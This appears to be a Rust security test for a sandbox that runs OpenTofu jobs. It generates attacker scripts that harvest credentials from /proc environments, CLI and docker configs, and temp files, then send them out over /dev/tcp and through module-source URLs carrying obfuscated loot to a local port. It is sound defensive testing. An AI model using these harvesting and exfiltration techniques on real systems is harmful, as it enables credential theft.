//! One run that tries everything which lets a run go on: while the credential is there (A1, A7, A10, A11) and when it is
//! gone (A4, A8, A9, A12, A19).
//!
//! Rule: each attack reports what it has got, and a report that did not come is no outcome: an attack that did not run
//! holds nothing.

use std::os::linux::net::SocketAddrExt as _;
use std::os::unix::net::{SocketAddr, UnixListener};
use std::path::Path;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use support::canary::Canary;
use support::http::Request;

use super::attacker::{OUTSIDE, has};
use super::stage::{Delivery, Stage, TELLS, TOLD, User};
use super::{Observed, Outcome};

/// Listens on a socket of the host, by a path and by an abstract name, as long as it lives.
pub(super) struct HostSockets {
    place: tempfile::TempDir,
    abstract_name: String,
}

impl HostSockets {
    pub(super) fn open() -> Self {
        use std::io::Write as _;
        use std::os::unix::fs::PermissionsExt as _;
        let place = tempfile::tempdir().unwrap();
        let path = place.path().join("socket");
        let abstract_name = format!("nigari-test-{}", support::child::random_hex(8));
        let named = SocketAddr::from_abstract_name(&abstract_name).unwrap();
        for listener in [UnixListener::bind(&path).unwrap(), UnixListener::bind_addr(&named).unwrap()] {
            // Ends with the test's process.
            std::thread::spawn(move || {
                while let Ok((mut connection, _)) = listener.accept() {
                    let _ = connection.write_all(b"answered\n");
                }
            });
        }
        // As a container engine's socket is for its group.
        for path in [place.path(), &path] {
            std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o777)).unwrap();
        }
        Self { place, abstract_name }
    }

    pub(super) fn path(&self) -> String {
        self.place.path().join("socket").display().to_string()
    }
}

/// What the scripts share: `tell NAME` sends its standard input, `loot` prints everything that may lead to a credential.
pub(super) fn library(stage: &Stage) -> String {
    let places =
        [stage.memory.path(), &stage.path("state"), &stage.path("runs")].map(|path| path.display().to_string());
    format!(
        r#"tell() {{
  exec 3<>/dev/tcp/127.0.0.1/{port} || return
  {{ printf '=== %s\n' "$1"; cat; printf '\n=== end\n'; }} >&3
  read -r answer <&3
  exec 3>&-
}}
loot() {{
  for process in /proc/[0-9]*; do tr '\0' '\n' < $process/environ; done
  told=$(cat {TOLD})
  for cli in "$TF_CLI_CONFIG_FILE" "$told"; do
    cat "$cli"
    for named in $(grep -o '"/[^"]*"' "$cli" | tr -d '"'); do cat "$named"; done
  done
  cat "$(dirname "$told")/docker/config.json"
  find {places} "$(dirname "$told")" "$HOME" "$TMPDIR" -type f -size -200k -exec cat {{}} +
  echo looted
}} 2>/dev/null
"#,
        port = stage.attacker.port,
        places = places.join(" "),
    )
}

/// In the fetch step, before tofu begins: what a program could do there, and what an expression can only guess.
fn in_fetch(host: &str) -> String {
    format!(
        r". ./library.sh
{TELLS}( ( printf 'https://{host}' | docker-credential-nigari get ) 2>&1; echo asked ) | tell A7
( cat /proc/self/environ /proc/$$/environ; ls /proc/self; echo looked ) 2>/dev/null | tell A11
echo waiting | tell {OUTSIDE}
"
    )
}

/// A key provider that is one, besides.
const KEY_PROVIDER: &str = r#". ./library.sh
loot | tell A4
echo '{"magic":"OpenTofu-External-Key-Provider","version":1}'
read -r _
zeros=$(printf '0,%.0s' 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20 21 22 23 24 25 26 27 28 29 30 31)0
key=$(head -c 32 /dev/zero | base64 | tr -d '\n')
echo "{\"keys\":{\"encryption_key\":\"$key\",\"decryption_key\":\"$key\"},\"meta\":{}}"
"#;

/// What a provisioner does while tofu applies.
fn in_apply(sockets: &HostSockets) -> String {
    let name = &sockets.abstract_name;
    let path = sockets.path();
    format!(
        r#". ./library.sh
grep '^Cap' /proc/self/status | tell A9
perl -e 'use Socket; for my $to (pack("S", AF_UNIX) . "{path}\0", pack("S", AF_UNIX) . "\0{name}") {{
  socket(my $s, AF_UNIX, SOCK_STREAM, 0); print connect($s, $to) ? "connected: " . <$s> : "none\n" }}' 2>&1 | tell A8
loot | tell later
"#
    )
}

/// The beginning of every file that can be found below a directory.
pub(super) fn listing(directory: &Path) -> String {
    let directory = directory.display();
    format!(
        "join(\"\\n\", [for name in try(fileset(\"{directory}\", \"**\"), []) : join(\" \", [name, substr(try(file(join(\"/\", \
         [\"{directory}\", name])), \"none\"), 0, 2000)])])"
    )
}

/// A module whose source takes loot along.
pub(super) fn module(port: u16, name: &str, loot: &str) -> String {
    let turned = format!("strrev(replace(replace(base64encode({loot}), \"+\", \"-\"), \"/\", \"_\"))");
    format!("module \"{name}\" {{\n  source = \"http://127.0.0.1:{port}/{name}.zip?loot=${{{turned}}}\"\n}}\n")
}

/// A1: by what the environment says, by what can be listed where secrets are, and by the path that only a program could have told.
fn expressions(stage: &Stage) -> String {
    let (port, listed) = (stage.attacker.port, listing(stage.memory.path()));
    let docker = |cli: &str| {
        format!("try(file(regex(\"docker_style_config_files = \\\\[\\\"([^\\\"]+)\", {cli})[0]), \"none\")")
    };
    format!(
        "locals {{\n  environ = try(file(\"/proc/self/environ\"), \"none\")\n  found = try(regex(\"TF_CLI_CONFIG_FILE=([^\\\\x00]+)\", \
         local.environ)[0], \"/none\")\n  listed = {listed}\n  cli_found = \
         try(file(local.found), \"none\")\n  cli_told = try(file(local.told), \"none\")\n  by_environment = {}\n  by_path = {}\n}}\n{}{}",
        docker("local.cli_found"),
        docker("local.cli_told"),
        module(port, "unknown", "join(\"\\n\", [local.by_environment, local.listed, local.environ])"),
        module(port, "known", "join(\"\\n\", [local.by_path, local.cli_told])"),
    )
}

const ENCRYPTION: &str = "terraform {\n  encryption {\n    key_provider \"external\" \"spy\" {\n      command = [\"/bin/bash\", \
                          \"key.sh\"]\n    }\n    method \"aes_gcm\" \"method\" {\n      keys = key_provider.external.spy\n    }\n    \
                          state {\n      method = method.aes_gcm.method\n    }\n  }\n}\n";

fn later(stage: &Stage) -> String {
    format!(
        "data \"terraform_remote_state\" \"theirs\" {{\n  backend = \"http\"\n  config = {{\n    address = \
         \"http://127.0.0.1:{}/state\"\n  }}\n}}\nvariable \"value\" {{\n  sensitive = true\n}}\nresource \"terraform_data\" \
         \"value\" {{\n  input = var.value\n}}\nresource \"terraform_data\" \"spy\" {{\n  provisioner \"local-exec\" {{\n    \
         command = \"bash apply.sh\"\n  }}\n}}\n",
        stage.attacker.port
    )
}

/// Runs it and tells what each attack has got.
pub(super) fn run(stage: &Stage, delivery: Delivery, sockets: &HostSockets, module: &str, observed: &mut Observed) {
    stage.attacker.forget();
    stage.attacker.looks(stage.look_from_outside());
    let files = [
        ("main.tf", module.to_owned()),
        ("expressions.tf", expressions(stage)),
        ("later.tf", later(stage)),
        ("encryption.tf", ENCRYPTION.to_owned()),
        ("value.auto.tfvars", format!("value = \"{}\"\n", stage.value.password)),
        ("library.sh", library(stage)),
        ("fetch.sh", in_fetch(&stage.shelf(delivery).host())),
        ("key.sh", KEY_PROVIDER.to_owned()),
        ("apply.sh", in_apply(sockets)),
    ];
    let said = stage.apply(&stage.configuration(&files), delivery.name());
    let all = said.all();
    assert_eq!(said.code, Some(0), "{delivery:?}: {:?}\n{all}", stage.attacker.names());
    let shown = stage.world.run(&stage.world.newest());
    let receipt = &shown["receipts"][0];
    assert_eq!(
        (&receipt["delivery"], &receipt["sandbox"]),
        (&delivery.name().into(), &stage.sandbox.into()),
        "{receipt:#}"
    );
    assert_eq!(receipt["wiped"], true, "{receipt:#}");

    let mut see = |row: &str, outcome: Outcome| observed.add(row, delivery, outcome);
    for (row, name, shows) in [("A1", "unknown", "none"), ("A1, path known", "known", "docker_style_config_files")] {
        let loot = stage.attacker.loot(name).unwrap_or_else(|| panic!("{row} did not run: {all}"));
        let text = String::from_utf8_lossy(&loot).into_owned();
        assert!(text.contains(shows), "{row} did not come so far: {text}");
        see(row, taken(&stage.canary, &loot));
    }
    for (row, report, shows) in [("A4", "A4", "looted"), ("A10", OUTSIDE, "looked"), ("A11", "A11", "looked")] {
        let got = reported(stage, report, shows);
        see(row, taken(&stage.canary, &got));
        if row == "A11" {
            assert!(!String::from_utf8_lossy(&got).contains("TF_CLI_CONFIG_FILE"), "the fetch step has a /proc");
        } else if row == "A10" {
            // The control: a process is seen, with its environment.
            assert!(String::from_utf8_lossy(&got).contains("TF_CLI_CONFIG_FILE="), "nothing was looked at");
        }
    }
    see("A7", helper(stage));
    see("A8", sockets_of_host(stage));
    see("A9", capabilities(stage));
    see("A12", password_of_state(stage));
    let loot = reported(stage, "later", "looted");
    assert_eq!(taken(&stage.canary, &loot), Outcome::Nothing, "the apply found the credential");
    let identity = std::fs::read_to_string(stage.path("state/identity")).unwrap();
    assert!(!has(&Canary::of(identity.trim()), &loot), "the apply found the agent's identity");
    stage.wait_for_wipe();
    // What the server keeps and what was said is searched at the end of the test; what is on the host, here.
    stage.search();
    see("A19", Outcome::Nothing);
}

fn taken(canary: &Canary, bytes: &[u8]) -> Outcome {
    if has(canary, bytes) { Outcome::Open } else { Outcome::Nothing }
}

/// A report, which must show that its attack went to its end.
fn reported(stage: &Stage, name: &str, shows: &str) -> Vec<u8> {
    let report =
        stage.attacker.report(name).unwrap_or_else(|| panic!("no report {name}: {:?}", stage.attacker.names()));
    assert!(String::from_utf8_lossy(&report).contains(shows), "{name}: {}", String::from_utf8_lossy(&report));
    report
}

fn helper(stage: &Stage) -> Outcome {
    let said = String::from_utf8_lossy(&reported(stage, "A7", "asked")).into_owned();
    match &said {
        said if said.contains("answers its own credential helper alone") => Outcome::Refused,
        said if said.contains("not found") => Outcome::Absent,
        said if has(&stage.canary, said.as_bytes()) => Outcome::Open,
        said => panic!("{said}"),
    }
}

/// By its path. An abstract name is out of reach wherever Landlock has scopes.
fn sockets_of_host(stage: &Stage) -> Outcome {
    let said = String::from_utf8_lossy(&reported(stage, "A8", "")).into_owned();
    let lines: Vec<&str> = said.lines().filter(|line| !line.is_empty()).collect();
    let [path, name] = lines[..] else { panic!("{said}") };
    if nigari::sandbox::left_open(nigari::sandbox::landlock_version()).is_none() {
        assert_eq!(name, "none");
    }
    if path == "connected: answered" { Outcome::Open } else { Outcome::Nothing }
}

/// All five sets are empty. What an ordinary user may gain it cannot give up outside of a namespace, and with
/// `no_new_privs` nothing comes of it.
fn capabilities(stage: &Stage) -> Outcome {
    let said = String::from_utf8_lossy(&reported(stage, "A9", "CapEff")).into_owned();
    let is_bounded = stage.sandbox == "namespace" || stage.user == User::Root;
    let has_some = capability_sets(&said).any(|(name, set)| set != 0 && (name != "CapBnd" || is_bounded));
    if has_some { Outcome::Open } else { Outcome::Nothing }
}

/// Name and content of each set in the lines of `/proc/PID/status`.
pub(super) fn capability_sets(status: &str) -> impl Iterator<Item = (&str, u64)> {
    let sets = status.lines().filter_map(|line| line.split_once(":\t")).filter(|(name, _)| name.starts_with("Cap"));
    sets.map(|(name, set)| (name, u64::from_str_radix(set.trim(), 16).unwrap()))
}

/// What a stranger's address was sent must be worth nothing at the server.
fn password_of_state(stage: &Stage) -> Outcome {
    let login = stage.attacker.login().unwrap_or_else(|| panic!("tofu sent no login: the attack does not work"));
    let password = login.strip_prefix("run:").unwrap();
    let port = stage.world.stack.url().trim_end_matches('/').rsplit_once(':').unwrap().1.parse().unwrap();
    let tried = |authorization: &str, target: &str| {
        let headers = [("authorization", authorization)];
        Request { method: "GET", target, headers: &headers, body: b"" }.over_loopback(port).unwrap().status
    };
    let basic = format!("Basic {}", STANDARD.encode(&login));
    let bearer = format!("Bearer {password}");
    for target in ["/api/v1/workspaces", "/api/v1/agent/session", "/api/v1/registry-integrations"] {
        for authorization in [&basic, &bearer] {
            assert!([401, 404, 405].contains(&tried(authorization, target)), "{target}");
        }
    }
    let identity = std::fs::read_to_string(stage.path("state/identity")).unwrap();
    let admin = std::fs::read_to_string(stage.world.stack.token_file()).unwrap();
    let is_known = [identity, admin].iter().any(|token| has(&Canary::of(token.trim()), &stage.attacker.everything()));
    if is_known { Outcome::Open } else { Outcome::Nothing }
}
